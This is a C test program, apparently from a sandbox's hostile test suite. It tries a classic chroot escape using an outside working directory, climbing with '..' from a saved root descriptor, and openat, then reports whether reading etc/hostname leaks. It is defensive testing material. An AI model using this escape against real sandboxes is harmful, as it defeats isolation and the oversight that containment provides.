// expect: escape
// The classic chroot break-out: chroot into a subdirectory of /tmp while keeping a cwd/fd outside it, climb with "..", chroot(".") and read etc/hostname.
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void try_open(const char *name, const char *path) {
    int fd = open(path, O_RDONLY);
    char buf[256];
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
    if (fd >= 0) close(fd);
    printf("%s: %s\n", name, n >= 0 ? "LEAK" : "blocked");
}

int main(void) {
    char dir[] = "/tmp/wisp-hostile-esc_chroot-XXXXXX", jail[96];
    if (!mkdtemp(dir)) { puts("setup: mkdtemp failed"); return 0; }
    snprintf(jail, sizeof jail, "%s/jail", dir);
    mkdir(jail, 0755);
    int tmpfd = open("/tmp", O_RDONLY | O_DIRECTORY);
    int dirfd_ = open(dir, O_RDONLY | O_DIRECTORY);
    int rootfd = open("/", O_RDONLY | O_DIRECTORY);

    chdir(dir);
    chroot("jail");             /* cwd stays outside the new root */
    for (int i = 0; i < 30; i++) chdir("..");
    chroot(".");
    try_open("chroot-cwd-outside-relative", "etc/hostname");
    try_open("chroot-cwd-outside-absolute", "/etc/hostname");

    fchdir(rootfd);
    for (int i = 0; i < 30; i++) chdir("..");
    chroot(".");
    try_open("chroot-saved-rootfd-climb", "etc/hostname");
    try_open("chroot-saved-rootfd-openat", "/etc/hostname");
    int fd = openat(rootfd, "../../etc/hostname", O_RDONLY);
    char buf[64];
    ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
    printf("chroot-openat-saved-fd: %s\n", n >= 0 ? "LEAK" : "blocked");
    if (fd >= 0) close(fd);

    /* clean up through descriptors opened before any chroot took effect */
    unlinkat(dirfd_, "jail", AT_REMOVEDIR);
    unlinkat(tmpfd, strrchr(dir, '/') + 1, AT_REMOVEDIR);
    return 0;
}
